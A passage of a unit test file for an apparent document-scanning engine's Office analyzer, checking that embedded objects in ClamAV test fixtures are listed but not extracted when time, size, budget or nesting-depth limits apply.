      expect(result.issues).toEqual([{ analyzer: 'office', kind: 'timeout', message: 'stopped by its time budget before the end of the document' }]);
    });

    it('refuses payloads beyond the extraction limits, as limit issues', async () => {
      const small = testEngineOptions({ limits: { maxFileBytes: 200 } });
      const ole = await run(new Uint8Array(readFileSync(`${CLAM}/clam.ole.doc`)), 'clam.ole.doc', { options: small });
      expect(ole.children).toEqual([]);
      expect(office(ole).objects[0]).toMatchObject({ fileName: 'C:\\clam.exe', note: 'not extracted: extraction limits' });
      expect(ole.issues).toEqual([{ analyzer: 'office', kind: 'limit', message: 'ObjectPool/_1279313719/\\x01Ole10Native: 544 bytes not extracted (extraction limits)' }]);

      const big = await run(docx({ parts: [{ name: 'word/embeddings/blob.bin', data: new Uint8Array(5000) }] }), 'big.docx', { options: small });
      expect(big.children).toEqual([]);
      expect(big.issues).toEqual([{ analyzer: 'office', kind: 'limit', message: 'word/embeddings/blob.bin: larger than the extraction limits, not extracted' }]);

      const noBudget = await run(new Uint8Array(readFileSync(`${CLAM}/clam.ole.doc`)), 'clam.ole.doc', { extractionBudget: { files: 0, bytes: 1 << 20 } });
      expect(noBudget.children).toEqual([]);
    });

    it('lists but does not extract embedded objects at the depth limit', async () => {
      const data = new Uint8Array(readFileSync(`${CLAM}/clam.ole.doc`));
      const result = await run(data, 'clam.ole.doc', { depth: 8 });
      expect(result.children).toEqual([]);
      expect(office(result).objects[0]).toMatchObject({ fileName: 'C:\\clam.exe', note: 'not extracted: nesting depth limit' });
    });
  });
});
